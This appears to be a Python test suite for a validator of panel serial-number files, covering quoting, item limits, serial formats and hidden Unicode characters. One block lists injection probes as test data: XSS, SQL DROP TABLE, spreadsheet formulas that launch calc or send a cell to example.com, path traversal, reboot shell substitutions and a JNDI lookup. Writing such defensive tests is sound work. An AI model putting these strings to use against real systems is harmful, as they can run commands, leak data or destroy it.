"""Files of panel serial numbers: quoting, the number of items, cells, serial numbers,
duplicates and further cells, each with exactly what has to come of it."""

import unicodedata
from itertools import cycle

from tests.serial_files import (
    AB,
    ANY_WORDS,
    FIELDS,
    HEAD,
    MARK,
    SHAPES,
    A,
    B,
    bad,
    line,
    many,
    no,
    ok,
    problems_of,
    quoted,
    row,
    text,
)

# A case a line: the rows below the heading (a pilcrow ends a line), then the problems
# of rows that can still be read, or the row that the refusal names.
BAD_QUOTES = """
a bare quote for inches :: {A}¶{B}¶Acme,Bright,72" panel,SN9 :: 4 - bare_quote
a bare quote in a serial :: A,L,M,SN"9¶{A} :: 2 serial character; 2 - bare_quote
bare quotes around a word :: {A}¶Acme "Solar" Ltd,L,M,SN9 :: 3 - bare_quote
bare quotes that are doubled :: {A}¶Acme ""Solar"" Ltd,L,M,SN9 :: 3 - bare_quote
a blank before the opening quote :: {A}¶Acme, "Bright",M-450,SN9 :: 3 - bare_quote
a bare quote at the end of a cell :: {A}¶Acme",L,M,SN9 :: 3 - bare_quote
a bare quote in a further cell :: {A}¶{B},x"y :: 3 - bare_quote; 3 - extra_cell
text after a closing quote :: {A}¶"Acme" Ltd,L,M,SN9 :: 3
text after two quotes :: {A}¶""Acme"",L,M,SN9 :: 3
a blank after a closing quote :: {A}¶"Acme" ,L,M,SN9 :: 3
quotes with backslashes :: {A}¶"Acme \\"Solar\\" Ltd",L,M,SN9 :: 3
text after the last quote of a line :: {A}¶A,L,M,"SN9"x¶{B} :: 3
an unclosed quote, and rows below :: {A}¶"A,L,M,SN9¶{B} :: 3
an opening quote and nothing more :: {A}¶{B}¶" :: 4
a bare quote below empty lines :: ¶¶{A}¶¶A"B,L,M,SN9 :: 6 - bare_quote
a bare quote below a line of commas :: {A}¶,,,¶A"B,L,M,SN9 :: 4 - bare_quote
below 3 lines :: A,B,"¶C¶",1AB¶A"B,L,M,1AC :: 3 - bare_quote
behind 3 lines :: {A}¶A,"¶B¶C",M"M,1AB :: 3 licensee hidden_character; 3 - bare_quote
an unclosed quote below cells of 2 lines :: "A¶B","C¶D",M,SN8¶{A}¶"Acme,B :: 4
"""


def bad_quote(case, end):
    name, rows, at = case.split(" :: ")
    data = "¶".join((line(HEAD), rows.format(A=line(A), B=line(B)), ""))
    ends = {"\r\n": "CRLF", "\n": "LF", "\r": "CR"}[end]
    name, data = f"{name} ({ends})", data.replace("¶", end)
    if at.isdecimal():
        return no(name, data, f"row {at}")
    return bad(name, data, *problems_of(at))


SAYING = row("SN1", 'Acme "Solar", Ltd', '"', 'M""5,"')
QUOTES = [
    *map(bad_quote, BAD_QUOTES.strip().splitlines(), cycle(("\r\n", "\n", "\r"))),
    no("an unclosed quote in the heading", AB.replace("Supp", '"Supp'), "row 1"),
    bad(
        "a bare quote in the heading",
        AB.replace("name", '"name"'),
        (1, "supplier_name", "heading_missing"),
        (1, "", "heading_unknown"),
    ),
    ok("the last quote ends the file", quoted(HEAD, A, B)[:-2], A, B),
    ok("quotes and commas inside quotes", text(SAYING, B), SAYING, B),
    ok("blanks inside quotes", quoted(HEAD, [f" {cell}  " for cell in A]), A),
    bad("quotes around nothing", quoted(HEAD, ("", *A[1:])), (2, FIELDS[0], "missing")),
]


def each(count, at, code):
    return ((number, FIELDS[at], code) for number in range(2, count + 2))


TALL = [row(f"SN{number}", "Acme\nSolar") for number in range(600)]
NONE = [row("")] * 1000
LIMITS = [
    no("nothing at all", b"", ANY_WORDS),
    no("a mark and nothing else", MARK, ANY_WORDS),
    no("empty lines only", "\r\n\r\n\n\r", ANY_WORDS),
    *(no(f"no item, {name}", made([]), ANY_WORDS) for name, made in SHAPES.items()),
    *(
        ok(f"items: {count}, {name}", made(many(count)), *many(count))
        for count in (1, 3, 1000)
        for name, made in SHAPES.items()
    ),
    *(no(f"1,001, {name}", made(many(1001)), "1,001") for name, made in SHAPES.items()),
    ok("one item among 3,000 empty lines", text(*[()] * 2999, A, ()), A),
    no("1,001 items, the last a duplicate", text(*many(1000), A), "1,001"),
    no("1,432 items", text(*many(1432)), "1,432"),
    bad("600 items of two lines each", text(*TALL), *each(600, 0, "hidden_character")),
    bad("1,000 items without serial", text(*NONE), *each(1000, 3, "missing")),
]

# Every one of these stands inside a cell. None of them can, in any column.
HIDDEN = (
    "\t\n\r\x01\x07\x08\x0b\x0c\x1b\x1c\x1d\x1e\x1f\x7f\x80\x85\x9f\xad\u061c\u180e"
    "\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e\u2060"
    "\u2061\u2066\u2067\u2068\u2069\ufeff\U000e0001\U000e0041"
)
# What else cannot stand in a serial number: signs, blanks, then look-alikes.
UNFIT = (
    "!\"$%&'*,;<=>?@[\\]^`{|}~ \u00a0\u2003\u2009\u202f\u3000\u3164\u115f\u2800"
    "\u0391\u0395\u0396\u0399\u039a\u039f\u03a9\u03bf\u0405\u0406\u0410\u0412\u0415"
    "\u041e\u0420\u0421\u0425\u0430\u0435\u043e\u0440\u0441\u0555\u13aa\u05d0\u4e00"
    "\uff21\uff41\uff11\uff0d\uff3f\uff0e\uff0f\uff1a\uff0b\uff03\uff08\uff09"
    "\u0663\u06f3\u0969\u09e9\u0e53\U0001d7cf\U0001d400\u2167\u2460\u00bd\u00b2\u2082"
    "\u0130\u0131\u00df\u1e9e\u017f\ufb01\u00c9\u00e9\u00f1\u00d8\u00aa\u00ba"
    "\u2010\u2011\u2012\u2013\u2014\u2212\ufe63\u00b7\u2024\u2026\u2044\u2215\u2236"
    "\u2116\u2018\u2019\u201c\u201d\u2033\u00b4\u20ac\u00a3\u2122\u00b0\U0001f31e"
    "\ufe0f\u034f\u0301"
)
TAKEN = """
20E2300417 Q02155E12 1E5 1e5 1E12 12E 0E1 E+1234 12.345 A238.0 238.0A 1.2.0 SN1E+20
1E+20-A A1.23457E+12 MAR12 12MAR A12-Mar 12-MAX #1234 +1234 -1234 _1234 :1234
/1234 0x1F NAN1 1_000_000 000 00012345 238 160719300412345678 O0I1L5S8B abc-1 a.b/c:d1
A-1._/:+#()9 AB-12 AB.12 AB_12 AB/12 AB:12 AB+12 AB#12 AB(12 AB)12 AB12- AB12. AB12_
AB12/ AB12: AB12+ AB12# AB12( AB12) A--1 ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789
"""
NOT_TAKEN = {
    "spreadsheet_damage": """
        1.23457E+12 1.23457e+12 1.6071930041E+017 1e+20 1E+20 3E+15 9.99E+307
        1,23457E+12 238.0 1607193.0 ###### ######## #VALUE! #N/A #NAME? #DIV/0! #REF!
        #NUM! #NULL! 1,607,193 12,345,678 12-Mar 1-Sep 31-Dec
        (1234)""",
    "missing": "N/A n/a N.A. UNKNOWN none NULL NaN TBA (BLANK) - NA",
    "no_digit": "ABC TRUE --- ... ___ A-B/C",
    "too_short": "1 12 A1 AB 0",
    "character": """
        ??? =1234 @1234 'A123 ''-A123 '=A123 '@A123 A'123 A123' -'A12 A1,B2 !""",
}


def of_serial(name, cell, code="", stored=""):
    """The serial number between two good rows: taken, or refused in row 3."""
    data = text(A, row(cell), B)
    if code:
        return bad(f"serial number: {name}", data, (3, "serial_number", code))
    return ok(f"serial number: {name}", data, A, row(stored or cell.upper()), B)


def called(sign):
    return unicodedata.name(sign, f"control character {ord(sign)}").lower()


SERIALS = [
    *(of_serial(f"{cell} is taken", cell) for cell in TAKEN.split()),
    *(
        of_serial(f"{cell} is refused as {code}", cell, code)
        for code, cells in NOT_TAKEN.items()
        for cell in cells.split()
    ),
    *(of_serial(f"{called(c)} in it", f"SN{c}12", "character") for c in UNFIT + HIDDEN),
    of_serial("a replacement character in it", "SN\ufffd12", "lost_characters"),
    of_serial("a line break of two characters in it", "SN\r\n12", "character"),
    of_serial("an invisible character at its start", "\u200bSN12", "character"),
    of_serial("an invisible character at its end", "SN12\u200b", "character"),
    of_serial("all full-width", "\uff33\uff2e\uff11\uff12", "character"),
    of_serial("only blanks", "   ", "missing"),
    of_serial("only no-break spaces", "\u00a0\u00a0", "missing"),
    of_serial("nothing", "", "missing"),
    of_serial("blanks around it", "  ab12  ", stored="AB12"),
    of_serial("no-break spaces around it", "\u00a0AB12\u00a0", stored="AB12"),
    of_serial("damaged, with blanks around it", " 1.23457E+12 ", "spreadsheet_damage"),
    of_serial("two characters among blanks", "  A1  ", "too_short"),
    of_serial("three characters", "A12"),
    of_serial("60 characters", "A1" * 30),
    of_serial("60 characters among blanks", "  " + "A1" * 30 + "  ", stored="A1" * 30),
    of_serial("61 characters", "A1" * 30 + "A", "too_long"),
    of_serial("61 characters, one a blank", "A1 " + "A1" * 29, "character"),
    of_serial("100,000 characters", "A1" * 50000, "too_long"),
    of_serial("one character that is not allowed", "\u00e9", "character"),
    of_serial("words for nothing", "not available", "missing"),
    of_serial("apostrophe, then hyphen", "'-abc1", stored="-ABC1"),
    of_serial("apostrophe, then plus", "'+123", stored="+123"),
    of_serial("apostrophe, then hyphen only", "'-", "missing"),
]


def put(at, cell):
    """A good row with this cell in this column."""
    cells = list(row("SN9"))
    cells[at] = cell
    return cells[0], cells[1], cells[2], cells[3]


def of_name(at, name, cell, code):
    where = HEAD[at].lower()
    return bad(f"{where}: {name}", text(A, put(at, cell), B), (3, FIELDS[at], code))


def stored(name, cell, kept=""):
    """The text in all three columns of names, and how it is kept."""
    rows = [row("SN9", given, given, given) for given in (cell, kept or cell)]
    return ok(f"names: {name}", text(A, rows[0], B), A, rows[1], B)


COMPOSED = {
    "an e and its accent": ("Cafe\u0301", "Caf\u00e9"),
    "200 letters with their accents apart": ("e\u0301" * 200, "\u00e9" * 200),
    "the old sign for Angstrom": ("\u212bngstrom", "\u00c5ngstrom"),
    "the old sign for Ohm": ("1 \u2126", "1 \u03a9"),
    "Korean in parts": ("\u1112\u1161\u11ab", "\ud55c"),
    "blanks around": ("  Acme Solar  ", "Acme Solar"),
    "no-break spaces around": ("\u00a0Acme\u00a0", "Acme"),
    "blanks around 200 letters": (" " + "x" * 200 + " ", "x" * 200),
    **{
        f"the apostrophe before {sign} is taken off": (f"'{sign}1+1", f"{sign}1+1")
        for sign in "=+-@"
    },
}
# Plain text in a name: kept to the letter. A broken bar parts the texts.
PLAIN = r"""
<script>alert(1)</script> ¦ "><img src=x onerror=alert(1)> ¦ &lt;b&gt; &amp; &#39;
Robert'); DROP TABLE panels;-- ¦ ' OR '1'='1
=cmd|' /C calc'!A1 ¦ =HYPERLINK("http://example.com/?a="&A1,"here") ¦ 238.0
@SUM(1+1)*cmd|' /C calc'!A0 ¦ +61 2 9999 0000 ¦ -1+1 ¦ ../../etc/passwd ¦ C:\Windows
$(reboot) `reboot` ; reboot | reboot ¦ ${jndi:ldap://example.com/a} ¦ {{7*7}} {% raw %}
%s %d %(name)s %00 {0} {name} ¦ \n \0 \x00 \u200b ¦ 'Acme' "Solar" ''Acme
O'Brien & Söhne, Łódź ¦ Acme  Solar,  two blanks ¦ 晶科能源 太陽光 한화큐셀 ¦ x
Солнце Ήλιος שמש شمس सूर्य ¦ ☺ 🌞🔆⚡ ¦ ＡＣＭＥ １２３ ﬁ ² ½ Ⅷ ſ ß ı İ
Acme™ – “Solar” … №1 €
"""
CELLS = [
    *(of_name(at, "nothing", "", "missing") for at in range(3)),
    *(of_name(at, "only blanks", "  \u00a0 ", "missing") for at in range(3)),
    *(of_name(at, "201 letters", "x" * 201, "too_long") for at in range(3)),
    of_name(0, "201 smileys", "\U0001f31e" * 201, "too_long"),
    of_name(1, "100,000 letters", "x" * 100000, "too_long"),
    *(
        of_name(at, f"{called(sign)} in it", f"Ac{sign}me", "hidden_character")
        for at, sign in zip(cycle((0, 1, 2)), HIDDEN, strict=False)
    ),
    of_name(2, "an invisible character at its end", "M-450\u200b", "hidden_character"),
    stored("200 letters", "x" * 200),
    stored("200 smileys", "\U0001f31e" * 200),
    *(stored(name, cell, kept) for name, (cell, kept) in COMPOSED.items()),
    *(stored(cell, cell) for cell in PLAIN.strip().replace("\n", " ¦ ").split(" ¦ ")),
]


MORE_FILES = [*QUOTES, *LIMITS, *SERIALS, *CELLS]
